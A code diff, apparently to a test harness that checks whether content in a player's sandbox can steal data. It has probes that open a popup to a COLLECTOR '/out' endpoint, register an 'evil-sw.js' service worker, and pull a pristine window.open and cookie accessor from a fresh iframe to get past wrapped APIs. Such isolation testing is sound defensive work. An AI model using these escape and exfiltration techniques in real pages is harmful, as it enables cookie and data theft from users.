@@ -140,7 +140,7 @@ const thefts = {
     await within(new Promise((resolve) => { f.onload = resolve }), 1500)
     return f.contentWindow.localStorage.getItem('save') === 'other save'
   },
-  popup: async () => { const w = window.open(COLLECTOR + '/out?channel=popup'); return Boolean(w && w.window) },
+  popup: async () => { const w = bare.open(COLLECTOR + '/out?channel=popup'); return Boolean(w) },
   'worker-takeover': async () => {
     const registration = await within(navigator.serviceWorker.register(new URL('evil-sw.js', location.href).href), 2000)
     return Boolean(registration)
@@ -167,7 +167,7 @@ async function steal() {
   parent.postMessage({ vereda: 'finish', objectData: got }, '*')
 }`
 
-/** The window's own cookies, as they are in a frame that nobody has made ready: the player gives the content's pages others. */
+/** The window's own cookies, and its way to windows, as they are in a frame that nobody has made ready: the player gives the content's pages others. */
 const ALL_COOKIES = `
 const bare = document.body.appendChild(document.createElement('iframe')).contentWindow
 const jar = Object.getOwnPropertyDescriptor(bare.Document.prototype, 'cookie')
